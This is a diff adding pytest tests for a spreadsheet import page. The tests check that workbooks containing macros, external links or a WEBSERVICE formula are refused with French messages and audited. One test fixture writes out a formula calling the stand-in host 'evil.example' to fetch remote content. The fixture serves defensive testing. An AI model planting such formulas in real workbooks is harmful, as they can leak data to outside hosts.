@@ -1,10 +1,13 @@
 """The import page (views/importer.py) on files it refuses or neutralises: said plainly, and audited once."""
 
+import re
+
 import pytest
 
 from indicators.loading import observation_store
 from indicators.store import audit
 from test_pages import open_page
+from workbooks import with_external_link, with_formula, with_macros, workbook_bytes
 
 
 @pytest.fixture()
@@ -100,3 +103,58 @@ def test_an_imported_file_name_is_quoted_under_every_chart_without_becoming_a_li
     history = open_page("views/history.py", analyst=True)
     versions = history.dataframe[0].value.astype(str)
     assert "www_evil.example.csv" in versions.to_string() and "www.evil" not in versions.to_string()
+
+
+XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+
+
+def as_read(markdown: str) -> str:
+    """What a viewer reads of escaped Markdown: escapes resolved, word joiners invisible."""
+    return re.sub(r"\\(.)", r"\1", markdown).replace("\u2060", "")
+
+
+@pytest.mark.parametrize(
+    ("name", "build", "refusal"),
+    [
+        ("renomme.xlsx", lambda: with_macros(workbook_bytes()), "Classeur refusé : il contient des macros"),
+        ("lie.xlsx", lambda: with_external_link(workbook_bytes()), "Classeur refusé : il est lié à 1 autre"),
+        (
+            "webservice.xlsx",
+            lambda: with_formula(workbook_bytes(), "D3", '_xlfn.WEBSERVICE("http://evil.example")', "5"),
+            "Feuille « Données », ligne 3, colonne « valeur » (cellule D3) : formule « =_xlfn.WEBSERVICE(",
+        ),
+    ],
+    ids=["macros", "external-link", "webservice"],
+)
+def test_a_workbook_that_runs_or_fetches_is_refused_in_french_and_audited(name, build, refusal, isolated_data):
+    app = open_page("views/importer.py", analyst=True)
+    app.file_uploader[0].set_value((name, build(), XLSX)).run()
+    assert not app.exception
+    errors = [as_read(error.value) for error in app.error]
+    assert any(error.startswith(refusal) for error in errors), errors
+    assert [entry["action"] for entry in audit.read_entries(isolated_data)] == [
+        "import refusé (macros, liaisons ou formules externes)"
+    ]
+    assert observation_store(isolated_data).latest_version() == 0
+    assert not [button for button in app.button if button.label == "Confirmer l'import"]
+
+
+def test_a_formula_whose_saved_value_is_imported_is_named_in_the_preview(isolated_data):
+    app = open_page("views/importer.py", analyst=True)
+    app.file_uploader[0].set_value(("total.xlsx", with_formula(workbook_bytes(), "D4", "D2+D3", "9"), XLSX)).run()
+    assert not app.exception and not app.error
+    [warning] = [warning.value for warning in app.warning if "formule" in warning.value]
+    assert warning.startswith("1 cellule(s) du classeur sont calculées par une formule")
+    formulas = next(frame.value for frame in app.dataframe if "Formule" in frame.value.columns)
+    assert formulas.to_dict("records") == [
+        {
+            "Feuille": "Données",
+            "Ligne": 4,
+            "Colonne": "valeur",
+            "Cellule": "D4",
+            "Formule": "=D2+D3",
+            "Valeur importée": "9",
+        }
+    ]
+    next(button for button in app.button if button.label == "Confirmer l'import").click().run()
+    assert observation_store(isolated_data).latest_version() == 1
